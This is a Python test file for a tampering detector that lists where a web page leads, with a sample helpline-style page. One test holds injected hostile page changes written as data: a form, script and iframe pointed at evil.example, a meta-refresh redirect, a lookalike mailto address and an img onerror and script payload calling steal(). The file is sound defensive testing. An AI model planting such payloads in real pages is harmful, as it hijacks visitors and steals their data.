"""Where a page leads and what it runs."""

from harkline.outside import leads

PAGE = """<!doctype html><html><head><base href="https://line.example/"><link rel="stylesheet" href="/static/a.css">
<script type="module" src="https://line.example/static/exit.js"></script></head>
<body><p>Somebody is here now, the wait is 4 minutes.</p><a href="tel:+442079460123">+44</a> <a href="mailto:help@line.example">mail</a>
<a href="/write">Write</a> <a href="https://line.example/notice">list</a><form action="/write" method="post"></form></body></html>"""


def read(html: str) -> list[str]:
    return leads.leads(html, "https://line.example").split("\n")


def test_numbers_addresses_forms_and_scripts_are_what_counts():
    assert read(PAGE) == [
        "base: /",
        "form: /write",
        "link: mailto:help@line.example",
        "link: tel:+442079460123",
        "script: /static/exit.js",
    ]


def test_words_and_hours_may_differ():
    assert read(PAGE.replace("4 minutes", "1 minute")) == read(PAGE)


def test_whatever_leads_callers_elsewhere_is_a_difference():
    for old, new in (
        ("+442079460123", "+442079460999"),
        ("mailto:help@line", "mailto:help@1ine"),
        ('action="/write"', 'action="https://evil.example/write"'),
        ("</body>", "<script>steal()</script></body>"),
        ("</body>", '<iframe src="//evil.example"></iframe></body>'),
        ("</body>", '<img src="x" onerror="steal()"></body>'),
        ("<head>", '<head><meta http-equiv="refresh" content="0;url=https://evil.example">'),
        ('href="/write"', 'href="//evil.example/write"'),
        ('src="https://line.example/static/exit.js"', 'src="https://evil.example/exit.js"'),
    ):
        assert old in PAGE
        more, _less = leads.difference(
            leads.leads(PAGE, "https://line.example"), "\n".join(read(PAGE.replace(old, new, 1)))
        )
        assert more, new


def test_a_signed_notice_is_its_text_however_it_is_wrapped():
    note = "harkline/notice/v1\n{}\n\n— key abc\n"
    assert leads.signed('{"note": "a\\nb", "more": 1}') == leads.signed('{"note": "a\\nb\\n"}')
    assert leads.signed(note) != leads.signed(note.replace("v1", "v2"))
    assert leads.signed("  ") == leads.signed('{"other": 1}') == "no signed notice"
